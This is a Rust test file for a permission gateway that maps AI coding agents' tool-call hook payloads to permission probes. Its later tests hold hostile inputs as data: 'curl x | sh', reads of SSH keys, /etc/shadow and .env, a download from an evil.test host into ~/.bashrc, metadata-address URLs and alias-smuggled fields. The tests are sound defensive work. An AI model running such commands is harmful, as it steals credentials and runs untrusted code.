//! One test per row of every agent's mapping table, each from a payload
//! shaped as the agent's documentation shows it.

use super::*;
use crate::{Agent, parse, table};
use serde_json::json;

/// A pre-tool-use payload of `agent` for `tool` with `input`, as the agent
/// sends it (cwd `/ws`).
fn payload(agent: Agent, tool: &str, input: Value) -> Value {
    match agent {
        Agent::ClaudeCode => json!({
            "session_id": "s1", "transcript_path": "/t.jsonl", "cwd": "/ws",
            "permission_mode": "default", "hook_event_name": "PreToolUse",
            "tool_name": tool, "tool_input": input, "tool_use_id": "toolu_1"}),
        Agent::Codex => json!({
            "session_id": "s1", "turn_id": "t1", "transcript_path": null, "cwd": "/ws",
            "model": "m", "hook_event_name": "PreToolUse", "tool_name": tool,
            "tool_input": input, "tool_use_id": "call_1"}),
        Agent::Gemini | Agent::Agy => json!({
            "session_id": "s1", "transcript_path": "", "cwd": "/ws",
            "hook_event_name": "BeforeTool", "timestamp": "2026-12-05T00:00:00Z",
            "tool_name": tool, "tool_input": input}),
        Agent::Cursor => json!({
            "conversation_id": "c1", "generation_id": "g1", "hook_event_name": "preToolUse",
            "tool_name": tool, "tool_input": input, "tool_use_id": "tu1", "cwd": "/ws",
            "workspace_roots": ["/ws"]}),
        Agent::Copilot => json!({
            "timestamp": 1_704_614_600_000u64, "cwd": "/ws", "toolName": tool,
            "toolArgs": input.to_string()}),
        Agent::OpenCode => json!({
            "event": "tool.execute.before", "tool": tool, "sessionID": "ses_1",
            "callID": "call_1", "args": input, "directory": "/ws", "cwd": "/ws"}),
    }
}

fn mapped(agent: Agent, tool: &str, input: Value) -> Mapped {
    let bytes = payload(agent, tool, input).to_string();
    probes(&parse(agent, bytes.as_bytes()).unwrap())
}

fn t(tool: &'static str, input: Value) -> Probe {
    Probe::Tool { tool, input }
}

/// Each documented tool of each agent: its input and what it maps to.
fn cases() -> Vec<(Agent, &'static str, Value, Vec<Probe>)> {
    use Agent::*;
    let bash = |c: &str| t("bash", json!({"command": c, "workdir": "/ws"}));
    let read = |p: &str| t("read", json!({"path": p}));
    let write = |p: &str| t("write", json!({"path": p, "content": ""}));
    vec![
        // Claude Code
        (
            ClaudeCode,
            "Bash",
            json!({"command": "git status", "description": "status", "timeout": 120000}),
            vec![bash("git status")],
        ),
        (
            ClaudeCode,
            "Read",
            json!({"file_path": "/ws/src/a.rs", "offset": 1, "limit": 10}),
            vec![read("/ws/src/a.rs")],
        ),
        (
            ClaudeCode,
            "NotebookRead",
            json!({"notebook_path": "/ws/n.ipynb"}),
            vec![read("/ws/n.ipynb")],
        ),
        (
            ClaudeCode,
            "Write",
            json!({"file_path": "/ws/a.txt", "content": "x"}),
            vec![write("/ws/a.txt")],
        ),
        (
            ClaudeCode,
            "Edit",
            json!({"file_path": "/ws/a.txt", "old_string": "a", "new_string": "b", "replace_all": false}),
            vec![write("/ws/a.txt")],
        ),
        (
            ClaudeCode,
            "MultiEdit",
            json!({"file_path": "/ws/a.txt", "edits": [{"old_string": "a", "new_string": "b"}]}),
            vec![write("/ws/a.txt")],
        ),
        (
            ClaudeCode,
            "NotebookEdit",
            json!({"notebook_path": "/ws/n.ipynb", "new_source": "x", "cell_id": "1"}),
            vec![write("/ws/n.ipynb")],
        ),
        (
            ClaudeCode,
            "Glob",
            json!({"pattern": "**/*.rs", "path": "/ws/src"}),
            vec![t("glob", json!({"pattern": "**/*.rs", "path": "/ws/src"}))],
        ),
        (
            ClaudeCode,
            "Grep",
            json!({"pattern": "fn main", "path": "/ws", "output_mode": "content"}),
            vec![t("grep", json!({"pattern": "fn main", "path": "/ws"}))],
        ),
        (
            ClaudeCode,
            "LS",
            json!({"path": "/ws/src"}),
            vec![t("list", json!({"path": "/ws/src"}))],
        ),
        (
            ClaudeCode,
            "WebFetch",
            json!({"url": "https://docs.rs/", "prompt": "summarise"}),
            vec![t("webfetch", json!({"url": "https://docs.rs/"}))],
        ),
        (
            ClaudeCode,
            "WebSearch",
            json!({"query": "rust hooks"}),
            vec![t("websearch", json!({"query": "rust hooks"}))],
        ),
        (
            ClaudeCode,
            "TodoWrite",
            json!({"todos": [{"content": "x", "status": "pending", "activeForm": "x"}]}),
            vec![],
        ),
        (
            ClaudeCode,
            "Task",
            json!({"description": "d", "prompt": "p", "subagent_type": "general-purpose"}),
            vec![],
        ),
        (
            ClaudeCode,
            "Agent",
            json!({"description": "d", "prompt": "p"}),
            vec![],
        ),
        (ClaudeCode, "ExitPlanMode", json!({"plan": "p"}), vec![]),
        (
            ClaudeCode,
            "AskUserQuestion",
            json!({"questions": []}),
            vec![],
        ),
        (ClaudeCode, "BashOutput", json!({"bash_id": "1"}), vec![]),
        (ClaudeCode, "KillShell", json!({"shell_id": "1"}), vec![]),
        (ClaudeCode, "KillBash", json!({"shell_id": "1"}), vec![]),
        // Codex
        (
            Codex,
            "Bash",
            json!({"command": "cargo test"}),
            vec![bash("cargo test")],
        ),
        (
            Codex,
            "shell",
            json!({"command": ["bash", "-lc", "ls -la"], "workdir": "/ws"}),
            vec![bash("bash -lc 'ls -la'")],
        ),
        (
            Codex,
            "exec_command",
            json!({"cmd": "ls", "workdir": "/ws"}),
            vec![bash("ls")],
        ),
        (
            Codex,
            "apply_patch",
            json!({"command": "*** Begin Patch\n*** End Patch\n"}),
            vec![t(
                "apply_patch",
                json!({"patch": "*** Begin Patch\n*** End Patch\n"}),
            )],
        ),
        (Codex, "update_plan", json!({"plan": []}), vec![]),
        (
            Codex,
            "web_search",
            json!({"query": "q"}),
            vec![t("websearch", json!({"query": "q"}))],
        ),
        (
            Codex,
            "view_image",
            json!({"path": "/ws/a.png"}),
            vec![read("/ws/a.png")],
        ),
        // Gemini CLI
        (
            Gemini,
            "run_shell_command",
            json!({"command": "npm test", "description": "tests", "dir_path": "pkg"}),
            vec![t(
                "bash",
                json!({"command": "npm test", "workdir": "/ws/pkg"}),
            )],
        ),
        (
            Gemini,
            "read_file",
            json!({"file_path": "/ws/README.md"}),
            vec![read("/ws/README.md")],
        ),
        (
            Gemini,
            "read_many_files",
            json!({"paths": ["src/a.rs", "src/**/*.ts"]}),
            vec![
                read("/ws/src/a.rs"),
                t("glob", json!({"pattern": "src/**/*.ts", "path": "/ws"})),
            ],
        ),
        (
            Gemini,
            "write_file",
            json!({"file_path": "/ws/b.txt", "content": "x"}),
            vec![write("/ws/b.txt")],
        ),
        (
            Gemini,
            "replace",
            json!({"file_path": "/ws/b.txt", "old_string": "a", "new_string": "b"}),
            vec![write("/ws/b.txt")],
        ),
        (
            Gemini,
            "glob",
            json!({"pattern": "*.md"}),
            vec![t("glob", json!({"pattern": "*.md", "path": "/ws"}))],
        ),
        (
            Gemini,
            "search_file_content",
            json!({"pattern": "TODO", "dir_path": "src"}),
            vec![t("grep", json!({"pattern": "TODO", "path": "/ws/src"}))],
        ),
        (
            Gemini,
            "grep_search",
            json!({"pattern": "TODO"}),
            vec![t("grep", json!({"pattern": "TODO", "path": "/ws"}))],
        ),
        (
            Gemini,
            "list_directory",
            json!({"dir_path": "/ws/src"}),
            vec![t("list", json!({"path": "/ws/src"}))],
        ),
        (
            Gemini,
            "web_fetch",
            json!({"prompt": "Summarise https://example.com/a, and <http://h.test/b>."}),
            vec![
                t("webfetch", json!({"url": "https://example.com/a"})),
                t("webfetch", json!({"url": "http://h.test/b"})),
            ],
        ),
        (
            Gemini,
            "google_web_search",
            json!({"query": "q"}),
            vec![t("websearch", json!({"query": "q"}))],
        ),
        (Gemini, "write_todos", json!({"todos": []}), vec![]),
        (
            Gemini,
            "codebase_investigator",
            json!({"objective": "x"}),
            vec![],
        ),
        (Gemini, "cli_help", json!({"question": "x"}), vec![]),
        // Cursor
        (
            Cursor,
            "Shell",
            json!({"command": "git diff", "cwd": "/ws"}),
            vec![bash("git diff")],
        ),
        (
            Cursor,
            "Read",
            json!({"file_path": "/ws/a.rs"}),
            vec![read("/ws/a.rs")],
        ),
        (
            Cursor,
            "Write",
            json!({"file_path": "/ws/a.rs", "content": "x"}),
            vec![write("/ws/a.rs")],
        ),
        (
            Cursor,
            "Edit",
            json!({"file_path": "/ws/a.rs"}),
            vec![write("/ws/a.rs")],
        ),
        (
            Cursor,
            "StrReplace",
            json!({"path": "/ws/a.rs", "old_string": "a", "new_string": "b"}),
            vec![write("/ws/a.rs")],
        ),
        (
            Cursor,
            "MultiEdit",
            json!({"file_path": "/ws/a.rs"}),
            vec![write("/ws/a.rs")],
        ),
        (
            Cursor,
            "Delete",
            json!({"path": "/ws/a.rs"}),
            vec![write("/ws/a.rs")],
        ),
        (
            Cursor,
            "Grep",
            json!({"pattern": "x", "path": "/ws"}),
            vec![t("grep", json!({"pattern": "x", "path": "/ws"}))],
        ),
        (
            Cursor,
            "Glob",
            json!({"glob_pattern": "*.rs", "target_directory": "/ws"}),
            vec![t("glob", json!({"pattern": "*.rs", "path": "/ws"}))],
        ),
        (
            Cursor,
            "LS",
            json!({"target_directory": "/ws"}),
            vec![t("list", json!({"path": "/ws"}))],
        ),
        (
            Cursor,
            "WebFetch",
            json!({"url": "https://x.test/"}),
            vec![t("webfetch", json!({"url": "https://x.test/"}))],
        ),
        (
            Cursor,
            "WebSearch",
            json!({"search_term": "q"}),
            vec![t("websearch", json!({"query": "q"}))],
        ),
        (Cursor, "TodoWrite", json!({"todos": []}), vec![]),
        (Cursor, "Task", json!({"prompt": "p"}), vec![]),
        // Copilot CLI
        (
            Copilot,
            "bash",
            json!({"command": "npm test", "description": "t"}),
            vec![bash("npm test")],
        ),
        (
            Copilot,
            "view",
            json!({"path": "/ws/a.rs", "view_range": [1, 10]}),
            vec![read("/ws/a.rs")],
        ),
        (
            Copilot,
            "create",
            json!({"path": "/ws/n.rs", "file_text": "x"}),
            vec![write("/ws/n.rs")],
        ),
        (
            Copilot,
            "edit",
            json!({"path": "/ws/n.rs", "old_str": "a", "new_str": "b"}),
            vec![write("/ws/n.rs")],
        ),
        (
            Copilot,
            "str_replace",
            json!({"path": "/ws/n.rs", "old_str": "a", "new_str": "b"}),
            vec![write("/ws/n.rs")],
        ),
        (
            Copilot,
            "glob",
            json!({"pattern": "*.rs"}),
            vec![t("glob", json!({"pattern": "*.rs", "path": "/ws"}))],
        ),
        (
            Copilot,
            "grep",
            json!({"pattern": "x"}),
            vec![t("grep", json!({"pattern": "x", "path": "/ws"}))],
        ),
        (
            Copilot,
            "web_fetch",
            json!({"url": "https://x.test/"}),
            vec![t("webfetch", json!({"url": "https://x.test/"}))],
        ),
        (Copilot, "read_bash", json!({"sessionId": "1"}), vec![]),
        (Copilot, "stop_bash", json!({"sessionId": "1"}), vec![]),
        (Copilot, "report_intent", json!({"intent": "x"}), vec![]),
        (Copilot, "update_todo", json!({"todos": "x"}), vec![]),
        (Copilot, "task", json!({"prompt": "x"}), vec![]),
        // OpenCode
        (
            OpenCode,
            "bash",
            json!({"command": "ls", "description": "list"}),
            vec![bash("ls")],
        ),
        (
            OpenCode,
            "read",
            json!({"filePath": "/ws/a.ts"}),
            vec![read("/ws/a.ts")],
        ),
        (
            OpenCode,
            "write",
            json!({"filePath": "/ws/a.ts", "content": "x"}),
            vec![write("/ws/a.ts")],
        ),
        (
            OpenCode,
            "edit",
            json!({"filePath": "/ws/a.ts", "oldString": "a", "newString": "b"}),
            vec![write("/ws/a.ts")],
        ),
        (
            OpenCode,
            "multiedit",
            json!({"filePath": "/ws/a.ts", "edits": []}),
            vec![write("/ws/a.ts")],
        ),
        (
            OpenCode,
            "patch",
            json!({"patchText": "*** Begin Patch\n*** End Patch"}),
            vec![t(
                "apply_patch",
                json!({"patch": "*** Begin Patch\n*** End Patch"}),
            )],
        ),
        (
            OpenCode,
            "apply_patch",
            json!({"patchText": "*** Begin Patch\n*** End Patch"}),
            vec![t(
                "apply_patch",
                json!({"patch": "*** Begin Patch\n*** End Patch"}),
            )],
        ),
        (
            OpenCode,
            "glob",
            json!({"pattern": "*.ts"}),
            vec![t("glob", json!({"pattern": "*.ts", "path": "/ws"}))],
        ),
        (
            OpenCode,
            "grep",
            json!({"pattern": "x", "include": "*.ts"}),
            vec![t("grep", json!({"pattern": "x", "path": "/ws"}))],
        ),
        (
            OpenCode,
            "list",
            json!({"path": "/ws"}),
            vec![t("list", json!({"path": "/ws"}))],
        ),
        (
            OpenCode,
            "webfetch",
            json!({"url": "https://x.test/", "format": "markdown"}),
            vec![t("webfetch", json!({"url": "https://x.test/"}))],
        ),
        (
            OpenCode,
            "websearch",
            json!({"query": "q"}),
            vec![t("websearch", json!({"query": "q"}))],
        ),
        (
            OpenCode,
            "codesearch",
            json!({"query": "q"}),
            vec![t("websearch", json!({"query": "q"}))],
        ),
        (OpenCode, "todowrite", json!({"todos": []}), vec![]),
        (OpenCode, "todoread", json!({}), vec![]),
        (OpenCode, "task", json!({"prompt": "p"}), vec![]),
        (OpenCode, "question", json!({"questions": []}), vec![]),
    ]
}

#[test]
fn every_row_of_every_table_maps_as_documented() {
    let cases = cases();
    for agent in Agent::ALL {
        for row in table::table(agent) {
            let case_agent = if agent == Agent::Agy {
                Agent::Gemini
            } else {
                agent
            };
            assert!(
                cases
                    .iter()
                    .any(|(a, tool, _, _)| *a == case_agent && *tool == row.tool),
                "no test for {agent}'s `{}`",
                row.tool
            );
        }
    }
    for (agent, tool, input, expected) in cases {
        let got = mapped(agent, tool, input);
        assert_eq!(got.probes, expected, "{agent} `{tool}`");
    }
}

#[test]
fn shell_calls_name_their_field_for_the_rewrite() {
    let m = mapped(Agent::ClaudeCode, "Bash", json!({"command": "make"}));
    let shell = m.shell.unwrap();
    assert_eq!((shell.field, shell.command.as_str()), ("command", "make"));
    assert_eq!(shell.workdir.as_deref(), Some("/ws"));
    // An argv array is judged but not rewritten.
    let argv = mapped(Agent::Codex, "shell", json!({"command": ["ls"]}));
    assert!(argv.shell.is_none());
}

#[test]
fn unknown_tools_and_missing_fields_are_asked() {
    let m = mapped(Agent::ClaudeCode, "SlashCommand", json!({"command": "/x"}));
    assert!(matches!(&m.probes[..], [Probe::Ask(why)] if why.contains("SlashCommand")));
    let m = mapped(Agent::ClaudeCode, "Read", json!({}));
    assert!(matches!(&m.probes[..], [Probe::Ask(_)]));
    let m = mapped(Agent::ClaudeCode, "Bash", json!({"command": 7}));
    assert!(matches!(&m.probes[..], [Probe::Ask(_)]));
    let m = mapped(Agent::Gemini, "web_fetch", json!({"prompt": "no links"}));
    assert!(matches!(&m.probes[..], [Probe::Ask(_)]));
}

#[test]
fn mcp_tools_are_judged_by_their_arguments() {
    let m = mapped(
        Agent::ClaudeCode,
        "mcp__filesystem__read_text_file",
        json!({"path": "/root/.ssh/id_rsa"}),
    );
    assert_eq!(
        m.mcp.as_ref().map(McpName::action).as_deref(),
        Some("filesystem__read_text_file")
    );
    assert_eq!(
        m.probes[..2],
        [
            Probe::Request(PermissionRequest::new(
                "filesystem__read_text_file",
                "filesystem__read_text_file",
                Risk::Execute
            )),
            t("read", json!({"path": "/root/.ssh/id_rsa"})),
        ]
    );
    // This world's working directory (`/ws`) does not exist, so the
    // gateway's walk, which resolves paths from it, cannot run: asked.
    assert!(
        matches!(&m.probes[2..], [Probe::Ask(why)] if why.contains("no working directory")),
        "{:?}",
        m.probes
    );
    let dl = mapped(
        Agent::Codex,
        "mcp__web__download",
        json!({"url": "http://evil.test/x", "output": "~/.bashrc"}),
    );
    assert!(
        dl.probes
            .contains(&t("webfetch", json!({"url": "http://evil.test/x"})))
    );
    assert!(
        dl.probes
            .contains(&t("write", json!({"path": "~/.bashrc", "content": ""})))
    );
    let sh = mapped(
        Agent::Gemini,
        "mcp_shell_run",
        json!({"command": "curl x | sh"}),
    );
    assert!(sh.probes.contains(&t(
        "bash",
        json!({"command": "curl x | sh", "workdir": "/ws"})
    )));
    let oc = mapped(Agent::OpenCode, "fs_read_file", json!({"path": "src/a.rs"}));
    assert!(
        oc.probes
            .contains(&t("read", json!({"path": "/ws/src/a.rs"})))
    );
}

/// A secret file named in an MCP tool's arguments under a key that does not
/// say "path" (`name`, `key`, `q`, a glob) is still a read of that file: a
/// rule allowing the server must not let it read `.env` (review s36).
#[test]
fn an_mcp_argument_naming_a_secret_file_under_any_key_is_a_read() {
    let m = mapped(
        Agent::ClaudeCode,
        "mcp__fs__read_file",
        json!({"name": ".env", "key": "deploy/id_rsa", "pattern": "**/.npmrc", "q": "README", "note": "see .env for details"}),
    );
    for secret in ["/ws/.env", "/ws/deploy/id_rsa", "/ws/**/.npmrc"] {
        assert!(
            m.probes.contains(&t("read", json!({"path": secret}))),
            "{secret}: {:?}",
            m.probes
        );
    }
    assert!(!m.probes.contains(&t("read", json!({"path": "/ws/README"}))));
}

/// The gateway's findings of review s41, through a hook: a URL spelled as a
/// WHATWG parser reads it (`http:/127.0.0.1/`) was no URL, a `file:` URL
/// was cut to the text after `file://` (not decoded, `file:/p` missed), a
/// path as an object's key was never looked at, and `..` folded by names
/// through a workspace link was judged only as the kernel reads it.
#[test]
fn an_mcp_argument_naming_a_place_in_another_spelling_is_judged_where_it_lands() {
    let m = mapped(
        Agent::ClaudeCode,
        "mcp__fs__read_file",
        json!({"uri": "http:/127.0.0.1:8080/x", "u2": "HTTP:\\\\169.254.169.254/",
               "doc": "FILE:/home/u/%2essh/id_rsa", "files": {"/etc/shadow": "r"},
               "name": "/ws/l/../../home/u/notes", "remote": "file://host/share/x"}),
    );
    for want in [
        t("webfetch", json!({"url": "http://127.0.0.1:8080/x"})),
        t("webfetch", json!({"url": "http://169.254.169.254/"})),
        t("read", json!({"path": "/home/u/.ssh/id_rsa"})),
        t("read", json!({"path": "/etc/shadow"})),
        t("read", json!({"path": "/ws/l/../../home/u/notes"})),
        t("read", json!({"path": "/home/u/notes"})),
    ] {
        assert!(m.probes.contains(&want), "{want:?}: {:?}", m.probes);
    }
    assert!(
        m.probes
            .iter()
            .any(|p| matches!(p, Probe::Ask(a) if a.contains("file://host"))),
        "{:?}",
        m.probes
    );
}

/// An agent's tool reads the one field name it knows, and the table lists
/// several (agents renamed fields across versions). A payload carrying two
/// of them must have every one judged: judging only the first present let
/// a harmless `file_path` hide the `target_file`, `cmd` or `cwd` the agent
/// uses (found by review s35).
#[test]
fn a_second_alias_of_a_field_is_judged_not_hidden_by_the_first() {
    let read = |p: &str| t("read", json!({"path": p}));
    let write = |p: &str| t("write", json!({"path": p, "content": ""}));
    let bash = |c: &str, d: &str| t("bash", json!({"command": c, "workdir": d}));
    let m = mapped(
        Agent::Cursor,
        "Read",
        json!({"file_path": "/ws/README", "target_file": "/home/u/.ssh/id_rsa"}),
    );
    assert!(
        m.probes.contains(&read("/home/u/.ssh/id_rsa")),
        "{:?}",
        m.probes
    );
    let m = mapped(
        Agent::Gemini,
        "read_file",
        json!({"file_path": "/ws/README", "path": "/home/u/.ssh/id_rsa"}),
    );
    assert!(
        m.probes.contains(&read("/home/u/.ssh/id_rsa")),
        "{:?}",
        m.probes
    );
    let m = mapped(
        Agent::Cursor,
        "Write",
        json!({"file_path": "/ws/README", "target_file": "/ws/.git/hooks/pre-commit"}),
    );
    assert!(
        m.probes.contains(&write("/ws/.git/hooks/pre-commit")),
        "{:?}",
        m.probes
    );
    let m = mapped(
        Agent::Codex,
        "shell",
        json!({"command": "ls", "cmd": "cat ~/.ssh/id_rsa"}),
    );
    assert!(
        m.probes.contains(&bash("cat ~/.ssh/id_rsa", "/ws")),
        "{:?}",
        m.probes
    );
    assert!(m.shell.is_none(), "two commands cannot be rewritten as one");
    let m = mapped(
        Agent::Codex,
        "Bash",
        json!({"command": "cat id_rsa", "workdir": "/ws", "cwd": "/home/u/.ssh"}),
    );
    assert!(
        m.probes.contains(&bash("cat id_rsa", "/home/u/.ssh")),
        "{:?}",
        m.probes
    );
    let m = mapped(
        Agent::Cursor,
        "LS",
        json!({"target_directory": "/ws", "path": "/home/u/.ssh"}),
    );
    assert!(
        m.probes
            .contains(&t("list", json!({"path": "/home/u/.ssh"}))),
        "{:?}",
        m.probes
    );
}

/// Every agent's own content search (ripgrep, git grep, grep -r) prints
/// the matching lines of every file below the directory it searches, and
/// skips none of the credentials toolgate's own walker skips. A search of
/// a directory that holds a private key or a secret file is judged as
/// reading that file; what git ignores is left out as the agents' searches
/// leave it out (found by review s35: `Grep` of the workspace was allowed
/// with `deploy/id_rsa` in it, for every agent).
#[test]
fn an_agents_own_search_of_a_directory_reads_the_secrets_below_it() {
    let dir = tempfile::tempdir().unwrap();
    let ws = std::fs::canonicalize(dir.path()).unwrap();
    std::fs::create_dir_all(ws.join("deploy")).unwrap();
    std::fs::create_dir_all(ws.join("src")).unwrap();
    std::fs::create_dir_all(ws.join(".git")).unwrap();
    std::fs::write(ws.join("deploy/id_rsa"), "key").unwrap();
    std::fs::write(ws.join("src/.env"), "SECRET=1").unwrap();
    std::fs::write(ws.join("src/main.rs"), "fn main() {}").unwrap();
    std::fs::write(ws.join(".gitignore"), "ignored/\n").unwrap();
    std::fs::create_dir_all(ws.join("ignored")).unwrap();
    std::fs::write(ws.join("ignored/id_ed25519"), "key").unwrap();
    let read = |p: &Path| t("read", json!({"path": p.display().to_string()}));
    let d = ws.display().to_string();
    for (agent, tool, input) in [
        (
            Agent::ClaudeCode,
            "Grep",
            json!({"pattern": "x", "path": d}),
        ),
        (
            Agent::Gemini,
            "search_file_content",
            json!({"pattern": "x", "dir_path": d}),
        ),
        (Agent::Cursor, "Grep", json!({"pattern": "x", "path": d})),
        (Agent::Copilot, "grep", json!({"pattern": "x", "path": d})),
        (Agent::OpenCode, "grep", json!({"pattern": "x", "path": d})),
    ] {
        let m = mapped(agent, tool, input);
        assert!(
            m.probes.contains(&read(&ws.join("deploy/id_rsa"))),
            "{agent:?}: {:?}",
            m.probes
        );
        assert!(
            m.probes.contains(&read(&ws.join("src/.env"))),
            "{agent:?}: {:?}",
            m.probes
        );
        assert!(
            !m.probes.contains(&read(&ws.join("src/main.rs"))),
            "{:?}",
            m.probes
        );
        assert!(
            !m.probes.contains(&read(&ws.join("ignored/id_ed25519"))),
            "what git ignores is not searched: {:?}",
            m.probes
        );
    }
}

/// The gateway's argument walker judges an agent's MCP call too: a
/// program beside its arguments is judged as the whole line, JSON text
/// inside a string is read, and a path is read where it resolves.
#[test]
fn mcp_arguments_are_walked_as_the_gateway_walks_them() {
    let dir = tempfile::tempdir().unwrap();
    let cwd = std::fs::canonicalize(dir.path()).unwrap();
    let mut payload = payload(
        Agent::ClaudeCode,
        "mcp__shell__run",
        json!({
            "command": "find",
            "args": [".", "-exec", "sh", "-c", "cat ~/.ssh/id_rsa", ";"],
            "options": "{\"file\": \"notes/a.txt\"}"
        }),
    );
    payload["cwd"] = json!(cwd);
    let bytes = payload.to_string();
    let m = probes(&parse(Agent::ClaudeCode, bytes.as_bytes()).unwrap());
    let requests: Vec<&PermissionRequest> = m
        .probes
        .iter()
        .filter_map(|p| match p {
            Probe::Request(r) => Some(r),
            _ => None,
        })
        .collect();
    assert!(
        requests
            .iter()
            .any(|r| r.action == "bash" && r.resource.contains("cat ~/.ssh/id_rsa")),
        "{requests:?}"
    );
    let note = cwd.join("notes/a.txt").display().to_string();
    assert!(
        requests
            .iter()
            .any(|r| r.action == "read" && r.resource == note),
        "{requests:?}"
    );
    // The gateway's own `mcp` request is not among them: the hook's rules
    // name the tool as `SERVER__TOOL`.
    assert!(requests.iter().all(|r| r.action != "mcp"), "{requests:?}");
}
